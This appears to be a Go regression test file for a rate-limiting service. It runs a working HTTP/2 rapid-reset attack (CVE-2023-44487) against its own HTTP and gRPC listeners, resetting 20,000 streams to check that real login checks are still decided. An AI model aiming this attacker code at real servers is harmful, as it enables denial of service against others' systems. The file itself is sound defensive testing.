package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	commonv3 "github.com/envoyproxy/go-control-plane/envoy/extensions/common/ratelimit/v3"
	rlsv3 "github.com/envoyproxy/go-control-plane/envoy/service/ratelimit/v3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"

	"github.com/tollgate-dev/tollgate/internal/testenv"
	"github.com/tollgate-dev/tollgate/service"
)

// rapidStreams is how many streams the rapid-reset attacker opens and
// resets (CVE-2023-44487), at most.
const rapidStreams = 20000

// Attack (on availability): rapid reset against --listen. One connection
// opens a stream for a login check (HEADERS, then the body with
// END_STREAM) and resets it at once (RST_STREAM CANCEL), 20 000 times in a
// tight loop, while a backend makes 100 login checks on a connection of
// its own. The red team saw 2 of 91 login checks answer 503.
// Defence: a check whose caller went away is never sent to Redis and is
// no verdict on the store (it opens no breaker, counts no store error),
// so every normal login check is decided: 200 or 429, never 503;
// afterwards the limiter is ready and its breaker closed with no store
// error counted.
//
// The store timeout is start's generous 2s, so that what is asserted is
// the accounting, not the machine's speed. With the default 50ms (no
// -race, 2 vCPUs at load 7-9) the old code failed 50-100 of the 100 in 2
// of 3 runs: 1 000-1 700 abandoned decisions a run were still sent to
// Redis, others' decisions missed their deadline, five misses in a row
// opened the breaker. Now none is sent (bucket
// TestAbandonedDecisionCostsNothing pins that exactly) and 3 runs of 4
// passed at 50ms, the fourth with 1 of 100 late: the machine's own delay.
//
// net/http speaks HTTP/2 only over TLS (ALPN h2; no h2c on a plaintext
// listener), so the listener here has --tls-cert/--tls-key. /v1/check is
// left open (no --api-token) so that every stream of the attacker reaches
// a decision.
func TestAttackHTTPRapidResetKeepsLoginChecksDecided(t *testing.T) {
	t.Parallel()
	tg := start(t, withCheckTLS(t))
	addr := strings.TrimPrefix(tg.public, "http://")
	body := `{"endpoint":"POST /auth/login","ip":"192.0.2.66","account":"victim"}`
	atk := &rapidReset{
		dial: func() (net.Conn, error) {
			return tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
		},
		stream: func(fr *http2.Framer, id uint32) error {
			return writeRequest(fr, id, []byte(body), ":method", "POST", ":scheme", "https", ":path", "/v1/check",
				":authority", "tollgate", "content-type", "application/json", "content-length", fmt.Sprint(len(body)))
		},
	}
	hc := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{ForceAttemptHTTP2: true,
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
	status := func(path, body string) (int, string, error) {
		method := "GET"
		if body != "" {
			method = "POST"
		}
		req, err := http.NewRequest(method, "https://"+addr+path, strings.NewReader(body))
		if err != nil {
			return 0, "", err
		}
		resp, err := hc.Do(req)
		if err != nil {
			return 0, "", err
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		if resp.ProtoMajor != 2 {
			return 0, "", fmt.Errorf("the normal client speaks %s, not HTTP/2", resp.Proto)
		}
		return resp.StatusCode, string(b), nil
	}
	atk.run(t, func(i int) string {
		code, b, err := status("/v1/check", fmt.Sprintf(`{"endpoint":"POST /auth/login","ip":"198.51.100.%d","account":"user-%d"}`, i%250+1, i))
		if err != nil {
			return "login check: " + err.Error()
		}
		if code != 200 && code != 429 {
			return fmt.Sprintf("login check answered %d %s", code, b)
		}
		return ""
	})
	if code, b, err := status("/readyz", ""); err != nil || code != 200 {
		t.Fatalf("after the attack /readyz: %d %s %v", code, b, err)
	}
	_, metrics, err := status("/metrics", "")
	if err != nil {
		t.Fatal(err)
	}
	storeHealthy(t, metrics)
}

// Attack (on availability): rapid reset against --grpc-listen, as
// TestAttackHTTPRapidResetKeepsLoginChecksDecided does against --listen:
// one connection opens ShouldRateLimit calls for a login and resets each
// at once, 20 000 times, while Envoy makes 100 login calls on a connection
// of its own. Defence: every one of Envoy's calls is decided (OK, or
// OVER_LIMIT with X-Tollgate-Status 429, never 503), and afterwards the
// limiter is ready, its breaker closed with no store error counted.
func TestAttackGRPCRapidResetKeepsLoginCallsDecided(t *testing.T) {
	t.Parallel()
	tg := start(t, withGRPC(t, 0))
	msg, err := proto.Marshal(loginCall("192.0.2.66"))
	if err != nil {
		t.Fatal(err)
	}
	frame := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(msg))), msg...)
	atk := &rapidReset{
		dial: func() (net.Conn, error) { return net.Dial("tcp", tg.grpc) },
		stream: func(fr *http2.Framer, id uint32) error {
			return writeRequest(fr, id, frame, ":method", "POST", ":scheme", "http",
				":path", "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit",
				":authority", "tollgate", "content-type", "application/grpc", "te", "trailers")
		},
	}
	envoy := grpcClient(t, tg.grpc)
	atk.run(t, func(i int) string {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		resp, err := envoy.ShouldRateLimit(ctx, loginCall(fmt.Sprintf("198.51.100.%d", i%250+1)))
		if err != nil {
			return "login call: " + err.Error()
		}
		if resp.OverallCode == rlsv3.RateLimitResponse_OK {
			return ""
		}
		for _, h := range resp.ResponseHeadersToAdd {
			if strings.EqualFold(h.GetKey(), "x-tollgate-status") && h.GetValue() == "429" {
				return ""
			}
		}
		return fmt.Sprintf("login call answered %v: %s", resp.ResponseHeadersToAdd, resp.RawBody)
	})
	if code, b := do(t, "GET", tg.api+"/readyz", "", nil); code != 200 {
		t.Fatalf("after the attack /readyz: %d %s", code, b)
	}
	_, metrics := do(t, "GET", tg.api+"/metrics", "", nil)
	storeHealthy(t, metrics)
}

// storeHealthy asserts the /metrics text shows the breaker closed and no
// store error counted.
func storeHealthy(t *testing.T, metrics string) {
	t.Helper()
	for _, want := range []string{"tollgate_store_circuit_state 0", "tollgate_store_errors_total 0"} {
		if !strings.Contains(metrics, "\n"+want+"\n") {
			t.Fatalf("after the attack /metrics lacks %q:\n%s", want, grepLines(metrics, "tollgate_store_"))
		}
	}
}

// grepLines returns the lines of s that start with prefix.
func grepLines(s, prefix string) string {
	var out []string
	for _, l := range strings.Split(s, "\n") {
		if strings.HasPrefix(l, prefix) {
			out = append(out, l)
		}
	}
	return strings.Join(out, "\n")
}

// loginCall is what Envoy sends for POST /auth/login from ip.
func loginCall(ip string) *rlsv3.RateLimitRequest {
	return &rlsv3.RateLimitRequest{Domain: "mobile-api", HitsAddend: 1, Descriptors: []*commonv3.RateLimitDescriptor{
		descriptor("remote_address", ip), descriptor("method", "POST", "path", "/auth/login")}}
}

// rapidReset is a rapid-reset attacker: on one connection (a new one
// when the server ends it) it writes stream after stream, each reset with
// RST_STREAM CANCEL right after its request, and never waits for an answer.
type rapidReset struct {
	dial   func() (net.Conn, error)
	stream func(fr *http2.Framer, id uint32) error

	sent  atomic.Int64 // streams opened and reset so far
	conns atomic.Int64 // connections dialled
}

// run starts the attack, waits until 1000 streams have been reset (the
// attack is on), then makes 100 normal calls through normal (which returns
// what was wrong, "" for a right answer), five at a time, while the attack
// goes on; it stops the attack and fails listing every wrong answer.
func (a *rapidReset) run(t *testing.T, normal func(i int) string) {
	t.Helper()
	stop := make(chan struct{})
	ended := make(chan error, 1)
	go func() { ended <- a.attack(stop) }()
	eventually(t, 30*time.Second, func() string {
		select {
		case err := <-ended:
			ended <- err
			return "" // over before 1000: the error below says why
		default:
		}
		if n := a.sent.Load(); n < 1000 {
			return fmt.Sprintf("the attacker has reset %d streams, want 1000 before the normal calls", n)
		}
		return ""
	})
	var (
		mu     sync.Mutex
		wrong  []string
		during int // normal calls answered before the attack was over
		wg     sync.WaitGroup
	)
	for w := 0; w < 5; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := w; i < 100; i += 5 {
				msg := normal(i)
				sent := a.sent.Load()
				mu.Lock()
				if sent < rapidStreams {
					during++
				}
				if msg != "" {
					wrong = append(wrong, fmt.Sprintf("call %d (after %d resets): %s", i, sent, msg))
				}
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	close(stop)
	if err := <-ended; err != nil {
		t.Fatalf("attacker: %v", err)
	}
	t.Logf("attacker: %d streams reset on %d connections; %d of the 100 normal calls answered while it went on", a.sent.Load(), a.conns.Load(), during)
	if len(wrong) > 0 {
		t.Fatalf("%d of 100 normal calls answered wrong during the rapid reset:\n%s", len(wrong), strings.Join(wrong, "\n"))
	}
}

// attack writes streams until rapidStreams are reset or stop is closed.
func (a *rapidReset) attack(stop <-chan struct{}) error {
	for a.sent.Load() < rapidStreams {
		c, err := a.dial()
		if err != nil {
			return fmt.Errorf("dial: %w", err)
		}
		a.conns.Add(1)
		err = a.onConn(c, stop)
		_ = c.Close()
		select {
		case <-stop:
			return nil
		default:
		}
		if err != nil && a.conns.Load() >= 100 {
			return fmt.Errorf("100 connections ended, the last: %w", err)
		}
	}
	return nil
}

// onConn runs the attack on c until stop, rapidStreams or a write error.
// A reader discards what the server sends (so that its writes never block
// the connection).
func (a *rapidReset) onConn(c net.Conn, stop <-chan struct{}) error {
	go func() { _, _ = io.Copy(io.Discard, c) }()
	bw := bufio.NewWriterSize(c, 64<<10)
	fr := http2.NewFramer(bw, nil)
	if _, err := io.WriteString(bw, http2.ClientPreface); err != nil {
		return err
	}
	if err := fr.WriteSettings(); err != nil {
		return err
	}
	for id := uint32(1); a.sent.Load() < rapidStreams; id += 2 {
		select {
		case <-stop:
			return bw.Flush()
		default:
		}
		if err := a.stream(fr, id); err != nil {
			return err
		}
		if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
		if err := bw.Flush(); err != nil {
			return err
		}
		a.sent.Add(1)
	}
	return bw.Flush()
}

// writeRequest writes a request on stream id: its header block (kv, name
// then value; HPACK without the dynamic table, so each block stands alone)
// and body, which ends the stream.
func writeRequest(fr *http2.Framer, id uint32, body []byte, kv ...string) error {
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for i := 0; i+1 < len(kv); i += 2 {
		if err := enc.WriteField(hpack.HeaderField{Name: kv[i], Value: kv[i+1]}); err != nil {
			return err
		}
	}
	if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true}); err != nil {
		return err
	}
	return fr.WriteData(id, true, body)
}

// withCheckTLS runs the limiter as a check service (no upstream: --listen
// serves /v1/check) with TLS on --listen, its certificate made for the
// test, and /v1/check open (no --api-token).
func withCheckTLS(t *testing.T) setup {
	cert, key := testenv.NewCA(t, "tollgate test CA").WritePair(t, t.TempDir(), "tls", "127.0.0.1")
	return func(c *service.Config) {
		c.Upstream, c.APIListen, c.APIToken = "", "", ""
		c.TLS = service.TLSFiles{Cert: cert, Key: key}
	}
}
